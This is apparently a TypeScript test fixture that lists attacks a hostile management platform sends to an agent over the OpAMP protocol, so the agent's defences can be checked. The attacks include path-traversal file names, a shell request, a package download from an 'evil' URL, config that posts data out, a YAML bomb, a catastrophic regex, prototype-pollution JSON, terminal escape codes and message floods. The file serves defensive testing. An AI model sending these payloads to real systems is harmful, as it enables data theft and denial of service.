import { utf8 } from "../../src/base/encoding.ts";
import { uuidv7 } from "../../src/base/ids.ts";
import { parseUuid } from "../../src/base/ids.ts";
import { systemClock } from "../../src/base/clock.ts";
import { CUSTOM } from "../../src/protocol/capabilities.ts";
import { jsonMessage } from "../../src/protocol/messages.ts";
import { logRequest, REQUEST_ID, RUN_ID } from "../support/requests.ts";
import type { HostilePlatform, ToAgent } from "./platform.ts";

/** Something that a platform does to get at what it must not have, or to bring an agent down. */
export interface Attack {
  name: string;
  run(platform: HostilePlatform): void;
}

let offers = 0;

const idOf = (n: number) => `01890a5d-ac96-774b-bccf-${n.toString(16).padStart(12, "0")}`;

/** Files as remote config; every offer is a new one. */
function config(files: Record<string, string | Uint8Array>): ToAgent {
  const configMap = Object.fromEntries(
    Object.entries(files).map((
      [name, body],
    ) => [name, { body: typeof body === "string" ? utf8(body) : body }]),
  );
  return { remoteConfig: { config: { configMap }, configHash: new Uint8Array(32).fill(++offers) } };
}

function process(
  name: string,
  { source = "in", sink = "out", more = "" }: Partial<Record<"source" | "sink" | "more", string>> = {},
) {
  return [
    `process: ${name}`,
    "trigger: { watch: true }",
    `source: { disk: { path: ${JSON.stringify(source)}, glob: "*", format: csv } }`,
    `sink: { disk: { path: ${JSON.stringify(sink)}, file: "x.ndjson", format: ndjson } }`,
    "deadLetter: { path: failed }",
    more,
  ].join("\n");
}

const offer = (name: string, files: Record<string, string | Uint8Array>): Attack => ({
  name,
  run: (platform) => platform.say(config(files)),
});

const settings = (
  name: string,
  opamp: NonNullable<NonNullable<ToAgent["connectionSettings"]>["opamp"]>,
): Attack => ({
  name: `connection settings: ${name}`,
  run: (platform) => platform.say({ connectionSettings: { hash: new Uint8Array([++offers & 0xff]), opamp } }),
});

const custom = (name: string, capability: string, type: string, data: string | Uint8Array): Attack => ({
  name: `a custom message: ${name}`,
  run: (platform) =>
    platform.say({
      customMessage: {
        capability,
        type,
        data: typeof data === "string" ? utf8(data) : data as Uint8Array<ArrayBuffer>,
      },
    }),
});

/** A message about requests for logs; what the policy of the attacked agent denies. */
const asked = (name: string, type: string, payload: (n: number) => unknown, times = 1): Attack => ({
  name: `requests: ${name}`,
  run(platform) {
    for (let n = 0; n < times; n++) {
      platform.say({ customMessage: jsonMessage(CUSTOM.logs, type, payload(n)) });
    }
  },
});

const raw = (name: string, data: () => Uint8Array | string): Attack => ({
  name,
  run: (platform) => platform.raw(data()),
});

const many = (attack: Attack, times: number): Attack => ({
  name: `${attack.name}, ${times} times`,
  run(platform) {
    for (let i = 0; i < times; i++) attack.run(platform);
  },
});

/** Fields of protobuf within fields, so deep that whoever goes down by recursion does not come back. */
function nested(depth: number): Uint8Array {
  const START_GROUP_90 = [0xd3, 0x05];
  const bytes = new Uint8Array(1 + depth * 2);
  for (let i = 0; i < depth; i++) bytes.set(START_GROUP_90, 1 + 2 * i);
  return bytes;
}

const PATHS = ["..", "../state/identity", "../../etc", "/etc", "in/../../state", "in\u0000/x", "..\\state"];
const NAMES = [
  "../../policy.yaml",
  "/etc/passwd",
  "policy.yaml",
  "state/sallyport.db",
  "a\u0000b",
  "",
  ".",
  "con",
  "x".repeat(5_000),
];

/** Attacks through which the connection stands; each once, in this order. */
export const ATTACKS: readonly Attack[] = [
  // Requests for what this agent never said it would do.
  custom("logs of a run", "io.sallyport.logs/1", "request", '{"run":"*"}'),
  custom("a shell", "io.sallyport.shell/1", "run", '{"command":"cat data/in/*"}'),
  custom("documents", "io.sallyport.data/1", "request", '{"process":"copy","documents":1000}'),
  custom("a proof of the agent's own", CUSTOM.proof, "proof", "{}"),
  custom("an enrolment", CUSTOM.enrolment, "request", '{"secret":"x"}'),
  {
    name: "a package to install",
    run: (platform) =>
      platform.say({
        packagesAvailable: {
          packages: { sallyport: { version: "99", file: { downloadUrl: "https://127.0.0.1:1/evil" } } },
          allPackagesHash: new Uint8Array([1]),
        },
      }),
  },
  { name: "an empty package offer", run: (platform) => platform.say({ packagesAvailable: {} }) },
  { name: "a command", run: (platform) => platform.say({ command: { type: 0 } }) },
  {
    name: "another identity",
    run: (platform) =>
      platform.say({ agentIdentification: { newInstanceUid: parseUuid(uuidv7(systemClock))! } }),
  },
  {
    name: "a message for another agent",
    run: (platform) => platform.say({ instanceUid: parseUuid(uuidv7(systemClock))! }),
  },

  // Config.
  ...PATHS.map((path) =>
    offer(`a process that reads ${JSON.stringify(path)}`, { thief: process("thief", { source: path }) })
  ),
  ...PATHS.map((path) =>
    offer(`a process that writes ${JSON.stringify(path)}`, { thief: process("thief", { sink: path }) })
  ),
  ...NAMES.map((name) =>
    offer(`a file named ${JSON.stringify(name.slice(0, 30))}`, {
      [name]: "tracking: { send: allow }\ndata: { send: allow }\n",
    })
  ),
  offer("a process that posts data out", {
    post: process("post").replace("sink: { disk:", 'sink: { http: { url: "https://127.0.0.1:1/" }, disk:'),
  }),
  offer("a process that sends data to the platform", {
    send: process("send", { more: "track: { until: 2999-12-31, fields: { id: id } }\ndata: allow" }),
  }),
  offer("an expression that never ends", {
    spin: process("spin", {
      more: 'steps: [{ map: { expression: "($f := function($n){$f($n)}; $f(1))" } }]',
    }),
  }),
  offer("a regular expression that explodes", {
    regex: process("regex", { more: 'steps: [{ filter: { where: "$match(id, /^(a+)+$/)" } }]' }),
  }),
  offer("YAML that grows a billion times", {
    bomb: `a: &a [x, x, x, x, x, x, x, x, x]\n${
      [..."bcdefgh"].map((name, i) => `${name}: &${name} [${Array(9).fill(`*${"abcdefg"[i]}`).join(", ")}]`)
        .join("\n")
    }\n`,
  }),
  offer("what is not text", { binary: new Uint8Array(1_000).fill(0xff) }),
  offer("a process as large as a message can be", { large: "#".repeat(900_000) }),
  offer(
    "more processes than anybody has",
    Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`p${i}`, "x"])),
  ),
  {
    name: "config without a hash",
    run: (platform) => platform.say({ remoteConfig: { config: { configMap: { x: { body: utf8("x") } } } } }),
  },
  {
    name: "config without files",
    run: (platform) => platform.say({ remoteConfig: { configHash: new Uint8Array(32).fill(250) } }),
  },

  // The connection.
  settings("another endpoint", { destinationEndpoint: "wss://127.0.0.1:1/v1/opamp" }),
  settings("a private key", { certificate: { privateKey: utf8("-----BEGIN PRIVATE KEY-----") } }),
  settings("another CA", { certificate: { caCert: utf8("-----BEGIN CERTIFICATE-----") } }),
  settings("headers", { headers: { headers: [{ key: "authorization", value: "Bearer x" }] } }),
  settings("a certificate that nobody asked for", {
    certificate: { cert: utf8("-----BEGIN CERTIFICATE-----\nAA==\n-----END CERTIFICATE-----") },
  }),
  settings("a heartbeat every 600 years", { heartbeatIntervalSeconds: 2n ** 64n - 1n }),
  settings("a heartbeat of nought", { heartbeatIntervalSeconds: 0n }),
  settings("a heartbeat a second", { heartbeatIntervalSeconds: 1n }),
  {
    name: "an error that asks for a wait of 600 years",
    run: (platform) =>
      platform.say({
        errorResponse: {
          type: 2,
          errorMessage: "x".repeat(100_000),
          Details: { case: "retryInfo", value: { retryAfterNanoseconds: 2n ** 64n - 1n } },
        },
      }),
  },

  // Acknowledgements that are none.
  custom(
    "an acknowledgement of another stream",
    CUSTOM.tracking,
    "ack",
    JSON.stringify({ stream: crypto.randomUUID(), through: 9e15 }),
  ),
  custom(
    "an acknowledgement with more keys",
    CUSTOM.tracking,
    "ack",
    '{"stream":"x","through":1,"__proto__":{"x":1},"constructor":1}',
  ),
  custom(
    "an acknowledgement of less than nothing",
    CUSTOM.tracking,
    "ack",
    '{"stream":"01890a5d-ac96-774b-bcce-b302099a8057","through":-1}',
  ),
  custom(
    "a request for a new key that brings more",
    CUSTOM.certificate,
    "renew",
    '{"requestedAt":"now","key":"x"}',
  ),
  custom("JSON in JSON in JSON", CUSTOM.tracking, "ack", "[".repeat(200_000)),
  custom("JSON that is none", CUSTOM.tracking, "ack", new Uint8Array(1_000).fill(0xfe)),
  custom("a batch, as if the agent were the platform", CUSTOM.tracking, "batch", '{"records":[]}'),

  // Requests, which the owner denies.
  asked("one, plain and honest", "request", () => logRequest()),
  asked("the same id for something else", "request", () => logRequest({ parameters: { runId: REQUEST_ID } })),
  asked("the same id for somebody else", "request", () => logRequest({ requester: "the owner" })),
  asked(
    "a deadline in a million years",
    "request",
    () => logRequest({ id: idOf(1), expiresInMs: 2 ** 53 - 1 }),
  ),
  asked("a deadline before it began", "request", () => logRequest({ id: idOf(2), expiresInMs: -1 })),
  asked(
    "a path in the place of a run",
    "request",
    () => logRequest({ id: idOf(3), parameters: { runId: "../../policy.yaml" } }),
  ),
  asked(
    "parameters without end",
    "request",
    () => logRequest({ id: idOf(4), parameters: { runId: RUN_ID, step: "x".repeat(900_000) } }),
  ),
  asked(
    "a requester of 100,000 letters",
    "request",
    () => logRequest({ id: idOf(5), requester: "x".repeat(1e5) }),
  ),
  asked(
    "a requester that drives a terminal",
    "request",
    () => logRequest({ id: idOf(6), requester: "\u001b[2J\u001b]0;x\u0007" }),
  ),
  asked("more keys than there are", "request", () => ({ ...logRequest({ id: idOf(7) }), approved: true })),
  asked("credit of 2^53", "credit", () => ({ id: REQUEST_ID, stored: 2 ** 53, credit: 2 ** 53 })),
  asked("all the credit that a number holds", "credit", () => ({
    id: REQUEST_ID,
    stored: 0,
    credit: Number.MAX_SAFE_INTEGER,
  })),
  asked("less credit than nothing", "credit", () => ({ id: REQUEST_ID, stored: -1, credit: -1 })),
  asked("a chunk, as if the agent were the platform", "chunk", () => ({ id: REQUEST_ID, records: [] })),
  asked("the end of what was never asked", "settled", (n) => ({ id: idOf(100_000 + n) }), 2_000),
  asked("a flood, each new", "request", (n) => logRequest({ id: idOf(1_000 + n) }), 2_000),
  asked("a flood, each the same", "request", () => logRequest(), 2_000),
  asked(
    "a flood of withdrawals of what is not there",
    "cancel",
    (n) => ({ id: idOf(200_000 + n), reason: "" }),
    2_000,
  ),

  // Floods.
  many({ name: "a wish for the full state", run: (platform) => platform.say({ flags: 1n }) }, 2_000),
  many({ name: "an answer to nothing", run: (platform) => platform.say({}) }, 5_000),
  many(custom("logs, again", "io.sallyport.logs/1", "request", "{}"), 5_000),
  many(custom("a broken acknowledgement", CUSTOM.tracking, "ack", "{"), 2_000),
  many({
    name: "an error",
    run: (platform) => platform.say({ errorResponse: { errorMessage: "x".repeat(5_000) } }),
  }, 1_000),
  many(
    custom("a new key", CUSTOM.certificate, "renew", '{"requestedAt":"2026-01-01T00:00:00.000Z"}'),
    2_000,
  ),
  many(settings("another endpoint, again", { destinationEndpoint: "wss://127.0.0.1:1/" }), 500),
];

/** What ends the connection: closes, and bytes that break the protocol. */
export const ENDINGS: readonly Attack[] = [
  { name: "a reason with escape codes", run: (platform) => platform.close(1011, "\u001b[2Jbusy\u0007") },
  { name: "a close without a reason", run: (platform) => platform.close(1011) },
  raw("fields within fields within fields", () => nested(400_000)),
  raw("a length that is not there", () => Uint8Array.of(0, 0x0a, 0xff, 0xff, 0xff, 0x7f)),
  raw("a number without an end", () => Uint8Array.of(0, ...Array(100).fill(0xff))),
  raw("another header", () => Uint8Array.of(7, 1, 2, 3)),
  raw("an empty message", () => new Uint8Array()),
  raw("text", () => "give me everything"),
  raw("a message of 3 MiB", () => new Uint8Array(3 * 1024 * 1024)),
];

/**
 * The runtime reads a message of up to 64 MiB before the agent can refuse it, and cannot be told otherwise: so this one
 * is not among those whose cost in memory is bounded.
 */
export const LARGEST: Attack = raw("a message of 40 MiB", () => new Uint8Array(40 * 1024 * 1024));
